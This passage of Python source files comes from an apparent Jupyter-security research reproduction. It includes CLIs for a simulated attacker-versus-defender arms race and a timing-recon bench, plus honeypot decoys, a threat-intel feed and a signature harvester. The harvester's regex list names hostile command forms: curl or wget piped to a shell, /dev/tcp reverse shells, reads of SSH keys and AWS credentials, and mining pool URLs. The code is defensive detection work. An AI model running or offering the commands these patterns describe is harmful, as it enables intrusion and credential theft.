                         f"(registered: {', '.join(list_presets())})")
        return _replay(args, sys.stdout)
    return _matrix(args, sys.stdout)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
