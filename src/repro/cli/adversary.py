"""``repro adversary``: run the adaptive-attacker arms race.

Three modes:

- ``--list``   — the registered strategy catalogue.
- ``--duel``   — one strategy vs one (adaptive) topology: prints both
  sides' scorecards and the adaptation metrics.  For adaptive
  strategies the exit status is non-zero unless *both* sides were live:
  the attacker re-entered after containment AND the defender
  re-contained it — the CI ``adversary-smoke`` gate.
- ``--matrix`` — strategies × topologies (including the geo rows), the
  standing adversary benchmark grid.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import List, Optional

from repro.adversary import (
    STRATEGIES,
    ArmsRaceRunner,
    StrategyMatrixRunner,
    list_strategies,
    make_strategy,
)
from repro.adversary.policy import AdversaryPolicy
from repro.soc.playbook import tightened
from repro.topology import list_presets


def _print_strategies(as_json: bool) -> None:
    policy = AdversaryPolicy()
    entries = [(name, make_strategy(name, policy).describe())
               for name in list_strategies()]
    if as_json:
        print(json.dumps([{"name": n, "description": d} for n, d in entries],
                         indent=2))
        return
    for name, description in entries:
        print(f"  {name:<16} {description}")


def _duel(args, out) -> int:
    runner = ArmsRaceRunner(
        args.topology, seed=args.seed, strategy=args.strategy,
        waves=args.waves, n_tenants=args.tenants,
        response=tightened() if args.tightened else None)
    report = runner.run()
    if args.json:
        print(report.to_json(), file=out)
    else:
        for line in report.render():
            print(line, file=out)
    if args.strategy == "static":
        return 0
    if args.strategy == "low-and-slow":
        # Its success mode is never engaging the loop at all: the gate
        # is measurable exfiltration, not re-entry.
        if report.bytes_exfiltrated == 0:
            print("adversary duel: FAIL — low-and-slow attacker "
                  "exfiltrated nothing", file=sys.stderr)
            return 1
        return 0
    # The smoke gate: an arms race needs both players alive.
    if not report.attacker_reentered:
        print("adversary duel: FAIL — adaptive attacker never re-entered",
              file=sys.stderr)
        return 1
    if not report.defender_recontained:
        print("adversary duel: FAIL — defender never re-contained the "
              "returning attacker", file=sys.stderr)
        return 1
    return 0


def _matrix(args, out) -> int:
    runner = StrategyMatrixRunner(
        topologies=args.topologies, strategies=args.strategies,
        base_seed=args.seed, waves=args.waves, n_tenants=args.tenants)
    cells = runner.run()
    if args.json:
        print(json.dumps([c.row() for c in cells], indent=2, default=str),
              file=out)
    else:
        print(StrategyMatrixRunner.render(cells), file=out)
    adaptive = [c for c in cells if c.strategy != "static"]
    if adaptive and not any(c.report.re_entries or c.report.bytes_exfiltrated
                            for c in adaptive):
        print("adversary matrix: FAIL — no adaptive strategy achieved "
              "re-entry or exfiltration anywhere", file=sys.stderr)
        return 1
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-adversary",
        description="Run strategy-driven adaptive attackers against "
                    "defended topologies")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--list", action="store_true",
                      help="print the strategy catalogue")
    mode.add_argument("--duel", action="store_true",
                      help="one strategy vs one topology, both scorecards")
    mode.add_argument("--matrix", action="store_true",
                      help="strategies x topologies benchmark grid")
    parser.add_argument("--strategy", default="source-rotation",
                        choices=sorted(STRATEGIES),
                        help="adversary strategy for --duel")
    parser.add_argument("--topology", default="adaptive-sharded-hub",
                        help="topology preset for --duel "
                             "(default: adaptive-sharded-hub)")
    parser.add_argument("--topologies", nargs="*",
                        default=["adaptive-sharded-hub",
                                 "adaptive-sharded-hub-geo"],
                        help="topology rows for --matrix (geo rows included "
                             "by default)")
    parser.add_argument("--strategies", nargs="*",
                        default=["static", "source-rotation", "low-and-slow"],
                        help="strategy columns for --matrix")
    parser.add_argument("--tightened", action="store_true",
                        help="use the tightened response policy (short "
                             "cooldowns, no containment expiry) for --duel")
    parser.add_argument("--waves", type=int, default=2,
                        help="objective waves per campaign plan")
    parser.add_argument("--tenants", type=int, default=6)
    parser.add_argument("--seed", type=int, default=7001)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    if args.list:
        _print_strategies(args.json)
        return 0
    if args.duel:
        if args.topology not in list_presets():
            parser.error(f"unknown topology {args.topology!r} "
                         f"(registered: {', '.join(list_presets())})")
        return _duel(args, sys.stdout)
    return _matrix(args, sys.stdout)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
