"""``repro traffic``: the traffic-analysis side-channel bench.

Two modes:

- ``--recon``  — run one :class:`TrafficFingerprinter` pass against a
  topology preset and print what the attacker recovered (shard map,
  decoy suspicions, 403 tally) next to the ground truth, plus whatever
  the defense saw (TRAFFIC_PATTERN notices, containment actions).
  ``--check`` adds the clean-world CI gate: on an unshaped, undefended
  world the recon must recover the full shard map with zero 403s.
- ``--matrix`` — the countermeasure matrix the CI ``traffic-smoke`` job
  runs: clean vs ``padded-`` vs ``defended-padded-`` worlds at one
  seed.  Exit status is non-zero unless padding pushes the shard-map
  accuracy to chance *and* the defended world contains the recon off a
  TRAFFIC_PATTERN incident.
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import Any, Dict, List, Optional

from repro.adversary.view import AttackSurfaceView
from repro.eval.metrics import decoy_flagging, shard_map_accuracy
from repro.hub.users import insecure_hub_config
from repro.topology import WorldBuilder, list_presets, spec_preset
from repro.traffic.fingerprint import TrafficFingerprinter

#: Matrix gate: padded shard-map accuracy must drop at least this low
#: (3 shards -> chance is 1/3; tenants on the nearest shard classify
#: correctly for free, so 0.5 is the structural near-chance floor).
PADDED_ACCURACY_CEILING = 0.5


def run_recon(spec, *, probes: int = 6, gap: float = 0.5) -> Dict[str, Any]:
    """Build ``spec``, run one fingerprinting pass, score it against
    ground truth, and report the defender's side of the exchange."""
    scenario = WorldBuilder().build(spec)
    view = AttackSurfaceView(scenario)
    verdict = TrafficFingerprinter(view, probes_per_tenant=probes,
                                   gap=gap).run(
        source=scenario.attacker_host, token=scenario.token)

    shards = getattr(scenario, "shards", None) or []
    accuracy: Optional[float] = None
    if shards:
        truth = scenario.shard_assignment()
        label_map = {f"door{i}": s.name for i, s in enumerate(shards)}
        accuracy = shard_map_accuracy(verdict.shard_map, truth, label_map)
    decoy_truth = list(getattr(scenario, "decoy_tenant_names", []))
    monitors = [s.monitor for s in shards] or [scenario.monitor]
    pattern_notices = [n for m in monitors for n in m.logs.notices
                       if n.name == "TRAFFIC_PATTERN"]
    soc = getattr(scenario, "soc", None)
    actions = list(soc.executed) if soc is not None else []
    return {
        "topology": spec.name,
        "seed": spec.seed,
        "padded": spec.padding is not None,
        "defended": spec.defended,
        "verdict": verdict.to_dict(),
        "accuracy": accuracy,
        "decoys": decoy_flagging(verdict.suspected_decoys, decoy_truth),
        "traffic_pattern_notices": len(pattern_notices),
        "containment_actions": [
            {"ts": a.ts, "rule": a.rule, "action": a.action,
             "target": a.target} for a in actions],
    }


def _fmt_row(row: Dict[str, Any]) -> str:
    v = row["verdict"]
    acc = row["accuracy"]
    decoys = ",".join(v["suspected_decoys"]) or "-"
    return (f"  {row['topology']:<34} "
            f"acc={'-' if acc is None else f'{acc:.3f}'} "
            f"decoys={decoys:<16} "
            f"denied={v['denied']} blocked={v['blocked']} "
            f"contained={v['contained']} "
            f"pattern_notices={row['traffic_pattern_notices']} "
            f"actions={len(row['containment_actions'])}")


def _clean_gate_ok(row: Dict[str, Any]) -> bool:
    """The clean-world bar: full shard map, zero 403s, decoys (if any
    exist in the world) flagged."""
    v = row["verdict"]
    return (row["accuracy"] in (None, 1.0) and v["denied"] == 0
            and v["blocked"] == 0
            and (not row["decoys"]["decoys"] or row["decoys"]["recall"] > 0))


def _recon(args, out) -> int:
    kwargs: Dict[str, Any] = {}
    if args.topology.endswith("sharded-hub-geo"):
        kwargs["decoy_names"] = tuple(args.decoys)
    spec = spec_preset(args.topology, seed=args.seed, **kwargs)
    row = run_recon(spec, probes=args.probes, gap=args.gap)
    if args.json:
        print(json.dumps(row, indent=2, sort_keys=True), file=out)
    else:
        print(f"recon: topology={spec.name!r} seed={args.seed}", file=out)
        print(_fmt_row(row), file=out)
        for tenant, door in sorted(row["verdict"]["shard_map"].items()):
            print(f"    {tenant:<10} -> {door} "
                  f"(+{row['verdict']['residuals'][tenant]:.4f}s)", file=out)
    if args.check and not (row["padded"] or row["defended"]) \
            and not _clean_gate_ok(row):
        print("traffic recon: FAIL — clean-world recon did not recover "
              "the shard map with zero 403s", file=sys.stderr)
        return 1
    return 0


def _matrix(args, out) -> int:
    decoys = tuple(args.decoys)
    rows = [
        run_recon(spec_preset("sharded-hub-geo", seed=args.seed,
                              decoy_names=decoys),
                  probes=args.probes, gap=args.gap),
        run_recon(spec_preset("padded-sharded-hub-geo", seed=args.seed,
                              decoy_names=decoys),
                  probes=args.probes, gap=args.gap),
        # No decoys in the defended row: the honeypot-intel auto-block
        # would contain the recon before the pattern detector ever sees
        # a full probe train, and this row exists to gate *that* path.
        run_recon(spec_preset("defended-padded-sharded-hub-geo",
                              seed=args.seed, decoy_names=(),
                              hub_config=insecure_hub_config()),
                  probes=args.probes, gap=args.gap),
    ]
    if args.json:
        print(json.dumps(rows, indent=2, sort_keys=True), file=out)
    else:
        print(f"traffic matrix: seed={args.seed} probes={args.probes} "
              f"gap={args.gap}", file=out)
        for row in rows:
            print(_fmt_row(row), file=out)

    clean, padded, defended = rows
    failures: List[str] = []
    if not _clean_gate_ok(clean):
        failures.append("clean recon did not recover the full shard map "
                        "with zero 403s (or missed every decoy)")
    if padded["accuracy"] is not None \
            and padded["accuracy"] > PADDED_ACCURACY_CEILING:
        failures.append(f"padded accuracy {padded['accuracy']:.3f} above "
                        f"the {PADDED_ACCURACY_CEILING} near-chance ceiling")
    if padded["verdict"]["blocked"]:
        failures.append("padding alone should not block the attacker")
    if defended["traffic_pattern_notices"] == 0:
        failures.append("defended world raised no TRAFFIC_PATTERN notice")
    if not defended["containment_actions"] \
            or not defended["verdict"]["contained"]:
        failures.append("defended world did not contain the recon")
    for failure in failures:
        print(f"traffic matrix: FAIL — {failure}", file=sys.stderr)
    return 1 if failures else 0


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(
        prog="repro-traffic",
        description="Timing recon vs padding/jitter countermeasures")
    mode = parser.add_mutually_exclusive_group(required=True)
    mode.add_argument("--recon", action="store_true",
                      help="one fingerprinting pass against --topology")
    mode.add_argument("--matrix", action="store_true",
                      help="clean vs padded vs defended-padded matrix")
    parser.add_argument("--topology", default="sharded-hub-geo",
                        help="topology preset for --recon "
                             "(default: sharded-hub-geo)")
    parser.add_argument("--decoys", nargs="*", default=["admin"],
                        help="decoy tenant names woven into the geo worlds")
    parser.add_argument("--probes", type=int, default=6,
                        help="probes per tenant train")
    parser.add_argument("--gap", type=float, default=0.5,
                        help="sim-seconds between probes")
    parser.add_argument("--check", action="store_true",
                        help="with --recon: fail unless a clean world's "
                             "recon fully succeeds (the CI gate)")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)

    if args.recon:
        if args.topology not in list_presets():
            parser.error(f"unknown topology {args.topology!r} "
                         f"(registered: {', '.join(list_presets())})")
        return _recon(args, sys.stdout)
    return _matrix(args, sys.stdout)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
