"""``repro-taxonomy``: render the paper's figures and table."""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

from repro.taxonomy import (
    ATTACK_TREE,
    JUPYTER_OSCRP,
    render_oscrp_figure,
    render_table,
    render_tree,
)


def main(argv: Optional[List[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="repro-taxonomy",
                                     description="Render the Jupyter attack taxonomy")
    parser.add_argument("artifact", choices=["fig1", "fig3", "table1", "all"],
                        nargs="?", default="all")
    parser.add_argument("--observables", action="store_true",
                        help="annotate tree leaves with their defender observables")
    args = parser.parse_args(argv)

    if args.artifact in ("fig1", "all"):
        print("=== Figure 1: taxonomy of Jupyter attacks in the wild ===")
        print(render_tree(ATTACK_TREE, show_observables=args.observables))
        print()
    if args.artifact in ("fig3", "all"):
        print("=== Figure 3: OSCRP threat model ===")
        print(render_oscrp_figure(JUPYTER_OSCRP))
        print()
    if args.artifact in ("table1", "all"):
        print("=== Table 1: avenues of attack ===")
        print(render_table(JUPYTER_OSCRP.table_rows(),
                           ["avenue", "concerns", "consequences"]))
    return 0


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
