"""Signature harvesting: from observed attacks to deployable rules.

The harvester condenses honeypot interactions into content signatures.
Token extraction is intentionally conservative — a signature built from
a benign-looking token would flood production with false positives, so
candidates must (a) recur across interactions or carry known-hostile
structure, and (b) never match a benign corpus the harvester is
calibrated with.
"""

from __future__ import annotations

import re
from collections import Counter
from typing import Iterable, List, Sequence

from repro.honeypot.decoy import InteractionRecord
from repro.monitor.signatures import Signature
from repro.taxonomy.oscrp import Avenue

#: Structural patterns that mark a token as hostile on sight.
HOSTILE_STRUCTURE = [
    (re.compile(r"stratum\+tcp://\S+"), Avenue.CRYPTOMINING),
    (re.compile(r"mining\.(subscribe|submit|authorize)"), Avenue.CRYPTOMINING),
    (re.compile(r"(curl|wget)\s+\S+\s*\|\s*(ba)?sh"), Avenue.ZERO_DAY),
    (re.compile(r"/dev/tcp/\d+\.\d+\.\d+\.\d+"), Avenue.ZERO_DAY),
    (re.compile(r"(files (are|have been) encrypted|pay.{0,30}(btc|bitcoin|ransom))",
                re.IGNORECASE), Avenue.RANSOMWARE),
    (re.compile(r"\.ssh/id_rsa|\.aws/credentials"), Avenue.ACCOUNT_TAKEOVER),
    (re.compile(r"base64\.b64decode\([\"'][A-Za-z0-9+/=]{100,}"), Avenue.ZERO_DAY),
]

#: A small benign corpus used to veto over-broad candidates.
BENIGN_CALIBRATION = [
    "import numpy as np",
    "import pandas as pd",
    "df = pd.read_csv('data.csv')",
    "model.fit(X_train, y_train)",
    "plt.plot(results)",
    "print(df.describe())",
    "for epoch in range(10):",
    "import hashlib",
]


class SignatureHarvester:
    """Builds signatures from decoy interaction logs."""

    def __init__(self, *, min_recurrence: int = 2, benign_corpus: Sequence[str] = ()):
        self.min_recurrence = min_recurrence
        self.benign_corpus = list(benign_corpus) or BENIGN_CALIBRATION
        self._counter = 0

    def _next_id(self, honeypot: str) -> str:
        self._counter += 1
        return f"SIG-HP-{self._counter:04d}"

    def _safe_against_benign(self, pattern: str) -> bool:
        try:
            rx = re.compile(pattern, re.IGNORECASE)
        except re.error:
            return False
        return not any(rx.search(b) for b in self.benign_corpus)

    @staticmethod
    def _anchors_for(literal: str, pattern: str) -> tuple:
        """Derive the anchor prefilter for an escaped-literal pattern.

        The anchor contract (see :class:`Signature`) demands a literal
        that MUST appear in any text the pattern can match.  For an
        untruncated ``re.escape(literal)`` that is the literal itself;
        for a truncated pattern, the longest literal prefix whose escape
        still prefixes the pattern (a match necessarily begins with that
        prefix).  Too-short anchors (< 6 chars) would gate nothing and
        bloat the automaton, so such rules stay anchorless/naive.
        """
        if re.escape(literal) == pattern:
            head = literal
        else:
            head = literal[:40]
            while head and not pattern.startswith(re.escape(head)):
                head = head[:-1]
        return (head.lower(),) if len(head) >= 6 else ()

    def harvest(self, records: Iterable[InteractionRecord]) -> List[Signature]:
        """Produce deployable signatures from interactions."""
        records = list(records)
        signatures: List[Signature] = []
        seen_patterns: set[str] = set()

        def add(literal: str, description: str, avenue: Avenue, family: str, honeypot: str):
            pattern = re.escape(literal)[:200]
            if pattern in seen_patterns or not self._safe_against_benign(pattern):
                return
            seen_patterns.add(pattern)
            signatures.append(Signature(
                sig_id=self._next_id(honeypot), description=description,
                family=family, pattern=pattern, avenue=avenue,
                source=f"honeypot:{honeypot}",
                anchors=self._anchors_for(literal, pattern),
            ))

        # 1. Structurally hostile tokens: one observation suffices.
        for rec in records:
            if rec.kind not in ("cell", "terminal", "http"):
                continue
            for rx, avenue in HOSTILE_STRUCTURE:
                m = rx.search(rec.content)
                if m:
                    family = "terminal" if rec.kind == "terminal" else (
                        "http-path" if rec.kind == "http" else "jupyter-code")
                    add(m.group(0),
                        f"harvested hostile token from {rec.honeypot}",
                        avenue, family, rec.honeypot)

        # 2. Recurring exact payload lines across interactions.
        line_counts: Counter = Counter()
        line_meta = {}
        for rec in records:
            if rec.kind != "cell":
                continue
            for line in rec.content.splitlines():
                line = line.strip()
                if len(line) < 12:
                    continue
                line_counts[line] += 1
                line_meta[line] = rec.honeypot
        for line, count in line_counts.items():
            if count >= self.min_recurrence:
                add(line,
                    f"payload line recurred {count}x across honeypot sessions",
                    Avenue.ZERO_DAY, "jupyter-code", line_meta[line])
        return signatures
