"""Honeypot fleet coordination and the lead-time experiment.

The fleet deploys decoys at the network edge, periodically harvests
their interaction logs into signatures, and publishes indicators to the
shared feed production monitors subscribe to.  ``lead_time`` quantifies
the paper's core operational claim: an attack that hits the edge first
is *already signatured* by the time it reaches the supercomputer.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.honeypot.decoy import DecoyJupyterServer
from repro.honeypot.harvest import SignatureHarvester
from repro.honeypot.intel import Indicator, ThreatIntelFeed
from repro.simnet import Network


@dataclass
class HarvestReport:
    ts: float
    new_signatures: int
    total_indicators: int


class HoneypotFleet:
    """Manages decoys, harvesting, and publication."""

    def __init__(self, network: Network, *, feed: Optional[ThreatIntelFeed] = None,
                 harvest_interval: float = 60.0):
        self.network = network
        self.feed = feed or ThreatIntelFeed()
        self.harvester = SignatureHarvester()
        self.decoys: List[DecoyJupyterServer] = []
        self.harvest_interval = harvest_interval
        self.reports: List[HarvestReport] = []
        self._published_patterns: set[str] = set()
        #: pattern -> first publication time (lead-time numerator)
        self.first_published: Dict[str, float] = {}

    def deploy(self, name: str, ip: str, *, interaction: str = "high") -> DecoyJupyterServer:
        host = self.network.add_host(name, ip)
        decoy = DecoyJupyterServer(self.network, host, name=name, interaction=interaction)
        self.decoys.append(decoy)
        return decoy

    def adopt(self, decoy: DecoyJupyterServer) -> DecoyJupyterServer:
        """Bring an externally deployed decoy (e.g. a hub decoy tenant)
        under this fleet's harvesting."""
        if decoy not in self.decoys:
            self.decoys.append(decoy)
        return decoy

    def schedule_harvesting(self, *, horizon: float) -> None:
        """Install periodic harvest events on the simulation loop."""
        loop = self.network.loop
        t = loop.clock.now() + self.harvest_interval
        while t <= loop.clock.now() + horizon:
            loop.call_at(t, self.harvest_now)
            t += self.harvest_interval

    def harvest_now(self) -> HarvestReport:
        """Harvest all decoys and publish new indicators."""
        now = self.network.loop.clock.now()
        records = [r for decoy in self.decoys for r in decoy.records]
        new = 0
        for sig in self.harvester.harvest(records):
            if sig.pattern in self._published_patterns:
                continue
            self._published_patterns.add(sig.pattern)
            indicator = Indicator.from_signature(sig, created=now)
            if self.feed.publish(indicator):
                self.first_published.setdefault(sig.pattern, now)
                new += 1
        report = HarvestReport(ts=now, new_signatures=new,
                               total_indicators=len(self.feed.indicators))
        self.reports.append(report)
        return report

    def publish_source_indicators(self, *, confidence: float = 0.95) -> int:
        """Publish a burned-source indicator for every IP that touched a
        decoy.  Decoys have no legitimate users, so a single interaction
        is a high-confidence verdict on the *source* even when the
        payload itself yields no content signature (e.g. a quiet
        cross-tenant looting sweep)."""
        now = self.network.loop.clock.now()
        published = 0
        for decoy in self.decoys:
            for ip in decoy.attacker_ips():
                indicator = Indicator(
                    indicator_id=f"ind-src-{ip}",
                    indicator_type="source-ip",
                    pattern=ip,
                    description=f"source interacted with decoy {decoy.name}",
                    confidence=confidence,
                    source=f"honeypot:{decoy.name}",
                    created=now,
                )
                if self.feed.publish(indicator):
                    published += 1
        return published

    # -- the EXP-HPOT metric -------------------------------------------------------
    def lead_time(self, pattern_fragment: str, production_hit_ts: float) -> Optional[float]:
        """Seconds between publication of a matching indicator and the
        attack's arrival at production.  Positive = honeypot won."""
        for pattern, ts in self.first_published.items():
            if pattern_fragment in pattern:
                return production_hit_ts - ts
        return None

    def total_interactions(self) -> int:
        return sum(len(d.records) for d in self.decoys)
