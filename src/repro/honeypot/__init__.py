"""Edge honeypots and threat-intelligence sharing (paper §IV.A).

"Defenders aim to stay ahead of attackers by deploying Jupyter Notebook
monitors early at the network edges, for example, on a set of honeypots,
to catch the latest signatures of attacks in the wild — before they
reach the actual Jupyter Notebooks instances deployed in supercomputers."

- :mod:`repro.honeypot.decoy` — low/high-interaction decoy Jupyter
  servers that record everything and risk nothing.
- :mod:`repro.honeypot.harvest` — turns recorded interactions into
  :class:`~repro.monitor.signatures.Signature` rules.
- :mod:`repro.honeypot.intel` — STIX-lite indicator exchange between
  honeypots and production monitors.
- :mod:`repro.honeypot.fleet` — fleet coordination and the lead-time
  measurement EXP-HPOT reports.
"""

from repro.honeypot.decoy import DecoyJupyterServer, InteractionRecord
from repro.honeypot.harvest import SignatureHarvester
from repro.honeypot.intel import Indicator, ThreatIntelFeed
from repro.honeypot.fleet import HoneypotFleet

__all__ = [
    "DecoyJupyterServer",
    "InteractionRecord",
    "SignatureHarvester",
    "Indicator",
    "ThreatIntelFeed",
    "HoneypotFleet",
]
