"""STIX-lite threat-intelligence exchange.

Indicators flow honeypot → feed → subscribed production monitors.  The
format keeps the STIX fields analysts actually use (type, pattern,
confidence, valid window, source) without the full OASIS schema.  The
feed is also the *sharing* substrate the paper's dataset discussion
wants: indicators are anonymized relative to raw logs by construction.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from typing import Callable, Dict, List, Optional

from repro.monitor.signatures import Signature, SignatureEngine
from repro.taxonomy.oscrp import Avenue


@dataclass
class Indicator:
    """One shareable indicator of compromise."""

    indicator_id: str
    indicator_type: str          # "content-signature" | "ip" | "token"
    pattern: str
    description: str
    confidence: float            # 0..1
    source: str
    created: float
    valid_until: Optional[float] = None
    avenue: Optional[str] = None
    #: Anchor literals travelling with the pattern so a subscribed
    #: engine can fold the rule into its prefilter automaton (empty on
    #: indicators from older feeds — ``from_json`` defaults it).
    anchors: List[str] = field(default_factory=list)

    def to_json(self) -> str:
        return json.dumps(asdict(self), sort_keys=True)

    @classmethod
    def from_json(cls, text: str) -> "Indicator":
        return cls(**json.loads(text))

    @classmethod
    def from_signature(cls, sig: Signature, *, created: float, confidence: float = 0.8) -> "Indicator":
        return cls(
            indicator_id=f"ind-{sig.sig_id.lower()}",
            indicator_type="content-signature",
            pattern=sig.pattern,
            description=sig.description,
            confidence=confidence,
            source=sig.source,
            created=created,
            avenue=sig.avenue.value if sig.avenue else None,
            anchors=list(sig.anchors),
        )

    def to_signature(self, family: str = "jupyter-code") -> Signature:
        return Signature(
            sig_id=self.indicator_id.upper().replace("IND-", "SIG-"),
            description=f"[intel] {self.description}",
            family=family,
            pattern=self.pattern,
            avenue=Avenue(self.avenue) if self.avenue else None,
            source=f"intel:{self.source}",
            anchors=tuple(self.anchors),
        )


class ThreatIntelFeed:
    """Pub/sub indicator distribution with dedup and expiry."""

    def __init__(self, *, name: str = "campus-feed"):
        self.name = name
        self.indicators: Dict[str, Indicator] = {}
        self._subscribers: List[Callable[[Indicator], None]] = []
        self.published_count = 0

    def publish(self, indicator: Indicator) -> bool:
        """Returns False if a same-id indicator was already published."""
        if indicator.indicator_id in self.indicators:
            return False
        self.indicators[indicator.indicator_id] = indicator
        self.published_count += 1
        for fn in self._subscribers:
            fn(indicator)
        return True

    def subscribe(self, fn: Callable[[Indicator], None], *, replay: bool = True) -> None:
        self._subscribers.append(fn)
        if replay:
            for indicator in self.indicators.values():
                fn(indicator)

    def subscribe_engine(self, engine: SignatureEngine, *, min_confidence: float = 0.5,
                         family: str = "jupyter-code") -> None:
        """Wire a production signature engine to the feed."""

        def ingest(indicator: Indicator) -> None:
            if indicator.confidence >= min_confidence and indicator.indicator_type == "content-signature":
                engine.add(indicator.to_signature(family=family))

        self.subscribe(ingest)

    def active(self, now: float) -> List[Indicator]:
        return [i for i in self.indicators.values()
                if i.valid_until is None or i.valid_until >= now]

    def export_jsonl(self) -> str:
        """Serialized feed (what sites would actually exchange)."""
        return "\n".join(i.to_json() for i in self.indicators.values())

    @classmethod
    def import_jsonl(cls, text: str, *, name: str = "imported") -> "ThreatIntelFeed":
        feed = cls(name=name)
        for line in text.splitlines():
            if line.strip():
                feed.publish(Indicator.from_json(line))
        return feed
