"""Decoy Jupyter servers.

A decoy *looks* like the insecure-demo deployment attackers scan for
(open ``/api``, no token) but its contents are synthetic bait, its
kernels run with a tiny op budget, and every byte of every interaction
is recorded.  Low-interaction mode answers the fingerprint probes only;
high-interaction mode runs a full simulated server so attackers reveal
their second-stage payloads.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.nbformat import Notebook
from repro.server import JupyterServer, ServerConfig, ServerGateway
from repro.server.config import insecure_demo_config
from repro.simnet import Host, Network, TcpConnection
from repro.wire.http import HttpRequest, parse_request


@dataclass
class InteractionRecord:
    """One attacker interaction with a decoy."""

    ts: float
    honeypot: str
    source_ip: str
    kind: str             # "probe" | "http" | "cell" | "terminal"
    content: str = ""
    detail: Dict[str, Any] = field(default_factory=dict)


BAIT_NOTEBOOK_CELLS = [
    "import pandas as pd\ndf = pd.read_csv('data/clinical_trial_results.csv')",
    "API_KEY = 'hp-bait-key-000'  # staging only",
    "model.save('models/llm_finetune_v3.bin')",
]


class DecoyJupyterServer:
    """One honeypot node."""

    def __init__(self, network: Network, host: Host, *, name: str = "",
                 interaction: str = "high", config: Optional[ServerConfig] = None):
        if interaction not in ("low", "high"):
            raise ValueError("interaction must be 'low' or 'high'")
        self.network = network
        self.host = host
        self.name = name or f"honeypot-{host.ip}"
        self.interaction = interaction
        self.records: List[InteractionRecord] = []
        cfg = config or insecure_demo_config()
        cfg.server_name = self.name
        self.config = cfg
        if interaction == "high":
            self.server: Optional[JupyterServer] = JupyterServer(cfg, network, host)
            self.gateway: Optional[ServerGateway] = ServerGateway(self.server)
            self._seed_bait()
            self._instrument()
        else:
            self.server = None
            self.gateway = None
            host.listen(cfg.port, self._accept_low)

    # -- low interaction: banner only --------------------------------------------
    def _accept_low(self, conn: TcpConnection) -> None:
        buf = b""

        def on_data(data: bytes) -> None:
            nonlocal buf
            buf += data
            try:
                request, rest = parse_request(buf)
            except Exception:
                self._record("probe", conn.client.ip, buf.decode("latin-1", "replace")[:200])
                return
            if request is None:
                return
            buf = rest
            self._record("http", conn.client.ip, f"{request.method} {request.target}",
                         {"headers": dict(request.headers)})
            if request.path in ("/api", "/api/"):
                body = json.dumps({"version": self.config.version}).encode()
                conn.send_to_client(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                    + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
                )
            else:
                conn.send_to_client(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")

        conn.on_data_server = on_data

    # -- high interaction: full simulated server with recording hooks ----------------
    def _seed_bait(self) -> None:
        assert self.server is not None
        nb = Notebook.new()
        for source in BAIT_NOTEBOOK_CELLS:
            nb.add_code(source)
        self.server.contents.save_notebook("analysis/confidential_results.ipynb", nb)
        self.server.contents.save("data/clinical_trial_results.csv",
                                  {"type": "file", "content": "subject,outcome\n" +
                                   "\n".join(f"s{i},{i % 3}" for i in range(50))})
        self.server.contents.save("models/llm_finetune_v3.bin",
                                  {"type": "file", "content": "BAIT" * 256})

    def _instrument(self) -> None:
        assert self.server is not None
        server = self.server
        original_handle = server.handle_request

        def recording_handle(request: HttpRequest, *, source_ip: str = ""):
            # Behind a hub proxy every request arrives from the proxy
            # host; X-Forwarded-For (set by the proxy, stripped from
            # client input) restores the true source for attribution.
            src = request.header("x-forwarded-for") or source_ip
            self._record("http", src, f"{request.method} {request.target}",
                         {"body_bytes": len(request.body), "relay_ip": source_ip})
            return original_handle(request, source_ip=source_ip)

        server.handle_request = recording_handle  # type: ignore[method-assign]
        original_start = server.start_kernel

        def recording_start():
            kernel = original_start()
            kernel.pre_execute_hooks.append(
                lambda code: self._record("cell", "kernel", code)
            )
            return kernel

        server.start_kernel = recording_start  # type: ignore[method-assign]

    def _record(self, kind: str, source_ip: str, content: str,
                detail: Optional[Dict[str, Any]] = None) -> None:
        self.records.append(InteractionRecord(
            ts=self.network.loop.clock.now(), honeypot=self.name,
            source_ip=source_ip, kind=kind, content=content, detail=detail or {},
        ))

    # -- reporting ---------------------------------------------------------------------
    def attacker_ips(self) -> List[str]:
        return sorted({r.source_ip for r in self.records if r.source_ip not in ("", "kernel")})

    def cells_observed(self) -> List[str]:
        return [r.content for r in self.records if r.kind == "cell"]
