"""Simulated benign research sessions."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from repro.attacks.scenario import Scenario
from repro.util.rng import DeterministicRNG

#: Templated benign cells; ``{i}`` is filled with a seeded integer so
#: repeated sessions are similar-but-not-identical, like real users.
BENIGN_CELL_TEMPLATES = [
    "import math\nvalues = [math.sqrt(x) for x in range({i})]\nsum(values)",
    "data = list(range({i}))\nmean = sum(data) / len(data)\nprint(mean)",
    "results = {{}}\nfor trial in range(10):\n    results[trial] = trial * {i}\nlen(results)",
    "text = open('data/measurements_0.csv').read()\nlines = text.split('\\n')\nlen(lines)",
    "counts = {{}}\nfor x in [1, 2, 2, 3, 3, 3]:\n    counts[x] = counts.get(x, 0) + 1\ncounts",
    "def objective(x):\n    return (x - {i}) ** 2\nbest = min(range(100), key=objective)\nbest",
    "log = open('run_{i}.log', 'w')\nlog.write('epoch=1 loss=0.5')\nlog.close()",
    "import hashlib\nchecksum = hashlib.sha256(open('data/measurements_0.csv').read().encode()).hexdigest()\nchecksum[:8]",
    "matrix = [[i * j for j in range(20)] for i in range(20)]\nsum(sum(row) for row in matrix)",
    "print('experiment {i} complete')",
]

#: Benign REST actions: (method, path-template, body-factory or None)
BENIGN_REST_ACTIONS = [
